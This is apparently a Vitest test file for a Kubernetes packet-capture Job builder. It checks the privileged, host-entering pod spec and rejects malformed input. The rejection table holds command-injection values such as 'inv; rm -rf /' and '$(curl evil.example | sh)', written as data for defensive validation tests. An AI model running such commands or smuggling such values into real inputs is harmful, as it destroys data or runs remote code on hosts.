import { describe, expect, it } from 'vitest';
import {
  CAPTURE_SELECTOR,
  DEFAULT_CAPTURE_IMAGE,
  buildCaptureJob,
  captureJobName,
  checkImage,
} from '../../lib/k8s/capture-job.js';
import { CAPTURE_SCRIPT } from '../../lib/k8s/capture-script.js';
import { isKubeError } from '../../lib/k8s/errors.js';
import { isDns1123Label, isDns1123Subdomain } from '../../lib/k8s/names.js';

const NODE = 'aks-nodepool1-12345678-vmss000000';
const ID = 'inv-20261126-0001';

function thrown(fn: () => unknown): Error {
  try {
    fn();
  } catch (e) {
    return e as Error;
  }
  throw new Error('did not throw');
}

describe('buildCaptureJob: the exact spec', () => {
  const job = buildCaptureJob({ investigationId: ID, nodeName: NODE, captureSeconds: 30 });
  const name = captureJobName(ID, NODE);
  const labels = {
    'app.kubernetes.io/name': 'snat-responder',
    'app.kubernetes.io/component': 'capture',
    'app.kubernetes.io/managed-by': 'snat-responder',
    'snat-responder/investigation': ID,
  };

  it('is the whole object, field by field', () => {
    expect(job).toEqual({
      apiVersion: 'batch/v1',
      kind: 'Job',
      metadata: {
        name,
        namespace: 'snat-responder-capture',
        labels,
        annotations: { 'snat-responder/node': NODE, 'snat-responder/capture-seconds': '30' },
      },
      spec: {
        backoffLimit: 0,
        completions: 1,
        parallelism: 1,
        activeDeadlineSeconds: 150,
        ttlSecondsAfterFinished: 600,
        template: {
          metadata: { labels: { ...labels, 'snat-responder/job': name } },
          spec: {
            nodeName: NODE,
            tolerations: [{ operator: 'Exists' }],
            hostPID: true,
            hostNetwork: true,
            restartPolicy: 'Never',
            automountServiceAccountToken: false,
            enableServiceLinks: false,
            terminationGracePeriodSeconds: 5,
            containers: [
              {
                name: 'capture',
                image: 'mcr.microsoft.com/azurelinux/busybox:1.36',
                imagePullPolicy: 'IfNotPresent',
                command: ['/bin/sh', '-c', CAPTURE_SCRIPT],
                env: [
                  { name: 'CAPTURE_SECONDS', value: '30' },
                  { name: 'CAPTURE_MAX_LINES', value: '30000' },
                  { name: 'CAPTURE_CENSUS_MAX_LINES', value: '4000' },
                  { name: 'CAPTURE_ENTER_HOST', value: '1' },
                ],
                resources: { requests: { cpu: '50m', memory: '64Mi' }, limits: { cpu: '1', memory: '512Mi' } },
                securityContext: {
                  privileged: true,
                  runAsUser: 0,
                  runAsNonRoot: false,
                  allowPrivilegeEscalation: true,
                  readOnlyRootFilesystem: true,
                },
                volumeMounts: [{ name: 'scratch', mountPath: '/tmp' }],
              },
            ],
            volumes: [{ name: 'scratch', emptyDir: { sizeLimit: '64Mi' } }],
          },
        },
      },
    });
  });

  it('the name is snat-capture-<16 hex>, a valid DNS-1123 label, stable per investigation and node', () => {
    expect(name).toMatch(/^snat-capture-[0-9a-f]{16}$/);
    expect(isDns1123Label(name)).toBe(true);
    // Pod names are <job>-<5 chars>: still a valid name.
    expect(isDns1123Subdomain(`${name}-abcde`)).toBe(true);
    expect(captureJobName(ID, NODE)).toBe(name);
    expect(captureJobName(ID, 'aks-nodepool1-12345678-vmss000001')).not.toBe(name);
    expect(captureJobName('inv-20261126-0002', NODE)).not.toBe(name);
  });

  it('the selector of the orphan sweep matches the Job labels', () => {
    for (const term of CAPTURE_SELECTOR.split(',')) {
      const [key, value] = term.split('=') as [string, string];
      expect(job.metadata!.labels![key]).toBe(value);
    }
  });

  it('options: image, pull secret, namespace, margin, TTL, priority class, limits', () => {
    const custom = buildCaptureJob({
      investigationId: ID,
      nodeName: NODE,
      captureSeconds: 600,
      maxLines: 200_000,
      censusMaxLines: 10,
      image: 'myregistry.azurecr.io/tools/capture@sha256:' + 'a'.repeat(64),
      pullSecret: 'acr-pull',
      namespace: 'ops-capture',
      deadlineMarginSeconds: 300,
      ttlSecondsAfterFinished: 0,
      priorityClassName: 'system-node-critical',
    });
    const pod = custom.spec!.template.spec!;
    expect(custom.metadata!.namespace).toBe('ops-capture');
    expect(custom.spec!.activeDeadlineSeconds).toBe(900);
    expect(custom.spec!.ttlSecondsAfterFinished).toBe(0);
    expect(pod.imagePullSecrets).toEqual([{ name: 'acr-pull' }]);
    expect(pod.priorityClassName).toBe('system-node-critical');
    expect(pod.containers[0]!.image).toBe('myregistry.azurecr.io/tools/capture@sha256:' + 'a'.repeat(64));
    expect(pod.containers[0]!.env).toEqual([
      { name: 'CAPTURE_SECONDS', value: '600' },
      { name: 'CAPTURE_MAX_LINES', value: '200000' },
      { name: 'CAPTURE_CENSUS_MAX_LINES', value: '10' },
      { name: 'CAPTURE_ENTER_HOST', value: '1' },
    ]);
  });

  it('never takes the test-only switch: the Job always enters the host', () => {
    const sneaky = buildCaptureJob({
      investigationId: ID,
      nodeName: NODE,
      captureSeconds: 5,
      enterHostNamespaces: false,
    } as never);
    expect(sneaky.spec!.template.spec!.containers[0]!.env).toContainEqual({ name: 'CAPTURE_ENTER_HOST', value: '1' });
  });

  it('the default image is from Microsoft Container Registry', () => {
    expect(DEFAULT_CAPTURE_IMAGE.startsWith('mcr.microsoft.com/')).toBe(true);
    expect(checkImage(DEFAULT_CAPTURE_IMAGE)).toBe(DEFAULT_CAPTURE_IMAGE);
  });
});

describe('buildCaptureJob: hostile and invalid input is refused with a typed error', () => {
  const base = { investigationId: ID, nodeName: NODE, captureSeconds: 30 };

  it.each([
    ['investigationId', ''],
    ['investigationId', 'a'.repeat(64)],
    ['investigationId', 'inv; rm -rf /'],
    ['investigationId', '$(curl evil.example | sh)'],
    ['investigationId', 'inv\nid'],
    ['investigationId', '-leading-dash'],
    ['investigationId', 'trailing.'],
    ['investigationId', 'ünïcode'],
    ['investigationId', 'a/b'],
    ['investigationId', 42],
    ['nodeName', '10.224.0.4,metadata.name=x'],
    ['nodeName', 'Aks-Node'],
    ['nodeName', ''],
    ['nodeName', 'node name'],
    ['nodeName', '../etc'],
    ['namespace', 'kube-system/x'],
    ['namespace', 'a.b'],
    ['image', 'busybox; reboot'],
    ['image', 'mcr.microsoft.com/azurelinux/busybox:1.36 --privileged'],
    ['image', '$(id)'],
    ['image', 'MCR.microsoft.com/x'],
    ['image', ''],
    ['pullSecret', 'Bad_Secret'],
    ['priorityClassName', 'x y'],
    ['captureSeconds', 0],
    ['captureSeconds', 601],
    ['captureSeconds', 2.5],
    ['captureSeconds', '30'],
    ['maxLines', 0],
    ['censusMaxLines', 100_001],
    ['deadlineMarginSeconds', 10],
    ['ttlSecondsAfterFinished', -1],
  ])('%s = %j', (field, value) => {
    const e = thrown(() => buildCaptureJob({ ...base, [field]: value }));
    expect(isKubeError(e, 'invalid'), e.message).toBe(true);
    // The message names the offending value, quoted (control characters escaped), never raw.
    expect(e.message).not.toContain('\n');
  });

  it('the investigation id is never part of the name, and only appears as a validated label value', () => {
    const job = buildCaptureJob({ ...base, investigationId: 'Inv_2026.11.26-A' });
    expect(job.metadata!.name).not.toContain('Inv');
    expect(job.metadata!.labels!['snat-responder/investigation']).toBe('Inv_2026.11.26-A');
    expect(JSON.stringify(job.spec!.template.spec!.containers[0]!.command)).not.toContain('Inv_2026');
  });
});
